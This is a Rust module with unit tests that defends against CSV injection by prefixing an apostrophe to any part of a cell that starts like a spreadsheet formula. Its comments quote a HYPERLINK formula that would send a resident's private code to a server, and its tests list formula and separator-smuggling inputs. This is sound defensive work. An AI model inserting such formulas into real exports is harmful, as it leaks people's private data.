//! Cells that a spreadsheet would run as a formula (issue 26, part 3).
//!
//! WHY: `slips.csv` holds every resident's private code beside their name,
//! and names often come from residents' own registrations. A name such as
//! `=HYPERLINK("https://…?"&C2,"klik")` in a file that Excel or LibreOffice
//! opens becomes a link that sends a code to a server when clicked
//! ("CSV injection", OWASP). A spreadsheet starts a formula at a cell whose
//! first character is `=`, `+`, `-` or `@`, and Excel also after a leading
//! tab or carriage return; so every such cell of a file written for a
//! spreadsheet gets a leading `'`, which both programs show as nothing but
//! read as "this is text". WHY a `'` and not refusing: a name like
//! `-Mo-` or a note `+31 6 …` is a person's own writing and must survive;
//! the apostrophe is the usual, visible-only-in-the-formula-bar practice.
//! Ids are different: `commit` refuses an id that starts like a formula
//! (`csv-id-formula`), so an id never needs the apostrophe and is never
//! shown changed on a slip or the page.
//!
//! WHY every part of a cell, not only its start (attack review of issue 26):
//! Dutch Excel opens a `.csv` with `;` as the separator whatever the file
//! uses, so `Jan;=1+1;` became the cells `Jan`, `=1+1`; and a quoted line
//! break ends a row for a reader that splits on another separator, so
//! `Anna⏎=2*21` put `=2*21` at the start of a row. So each part of a cell
//! after a `,` `;` tab or line break (and any `"` there) is read as a cell of
//! its own, and each that starts like a formula gets its `'`; the id rule
//! of `commit` is the same.

/// Whether a spreadsheet would read `cell` as a formula (or the start of
/// one): its first character is `=`, `+`, `-`, `@`, a tab or a carriage
/// return. (One named rule, used by `commit` for ids and by every CSV
/// written for a spreadsheet.)
pub fn starts_like_formula(cell: &str) -> bool {
    matches!(cell.chars().next(), Some('=' | '+' | '-' | '@' | '\t' | '\r'))
}

/// The characters after which a reader may start a new cell: the three
/// separators spreadsheets use, and line breaks.
fn splits(c: char) -> bool {
    matches!(c, ',' | ';' | '\t' | '\n' | '\r')
}

/// Whether any part of `cell` — its start, or the text after a separator or
/// line break, past any `"` — starts like a formula: what a spreadsheet
/// reading the cell with another separator would run.
pub fn holds_formula(cell: &str) -> bool {
    std::iter::once(cell)
        .chain(cell.split(splits).skip(1))
        .any(|part| starts_like_formula(part.trim_start_matches('"')))
}

/// `cell` as a spreadsheet must receive it to show it as text: a `'` before
/// every part that starts like a formula (its start, and after each
/// separator or line break, past any `"`), otherwise unchanged.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    if !holds_formula(cell) {
        return std::borrow::Cow::Borrowed(cell);
    }
    let mut out = String::with_capacity(cell.len() + 4);
    let mut at_start = true;
    let mut chars = cell.chars().peekable();
    while let Some(c) = chars.next() {
        if at_start {
            // Past any quotes, a formula start gets its apostrophe.
            let mut quotes = String::new();
            let mut c = c;
            while c == '"' {
                quotes.push(c);
                match chars.next() {
                    Some(n) => c = n,
                    None => {
                        out.push_str(&quotes);
                        return std::borrow::Cow::Owned(out);
                    }
                }
            }
            out.push_str(&quotes);
            if starts_like_formula(c.encode_utf8(&mut [0; 4])) {
                out.push('\'');
            }
            out.push(c);
            at_start = splits(c);
            continue;
        }
        out.push(c);
        at_start = splits(c);
    }
    std::borrow::Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_formula_start_is_neutralised_and_nothing_else() {
        for cell in ["=1+1", "+31 6 1234", "-5", "@SUM(A1)", "=HYPERLINK(\"https://x\",\"klik\")"] {
            assert!(starts_like_formula(cell), "{cell:?}");
            assert_eq!(neutralise(cell), format!("'{cell}"));
        }
        // A tab or CR first is a formula start for Excel, and what follows it a cell of its own.
        assert_eq!(neutralise("\t=1"), "'\t'=1");
        assert_eq!(neutralise("\r=1"), "'\r'=1");
        // After a separator or a line break, past quotes (attack review of issue 26).
        for (cell, safe) in [
            ("Jan;=1+1;", "Jan;'=1+1;"),
            ("Piet,+31 6", "Piet,'+31 6"),
            ("Anna\n=2*21\n", "Anna\n'=2*21\n"),
            ("Kees;\"=HYPERLINK(B6)\";", "Kees;\"'=HYPERLINK(B6)\";"),
            ("a\t@SUM(A1)", "a\t'@SUM(A1)"),
            ("=1;=2", "'=1;'=2"),
        ] {
            assert!(holds_formula(cell), "{cell:?}");
            assert_eq!(neutralise(cell), safe, "{cell:?}");
        }
        for cell in ["", "Joyce Mensah", "ZUID-001", "06-10000001", " =1", "'=1", "1+1", "a=b", "Jan; Piet", "a, b"] {
            assert!(!starts_like_formula(cell), "{cell:?}");
            assert_eq!(neutralise(cell), cell);
        }
    }
}
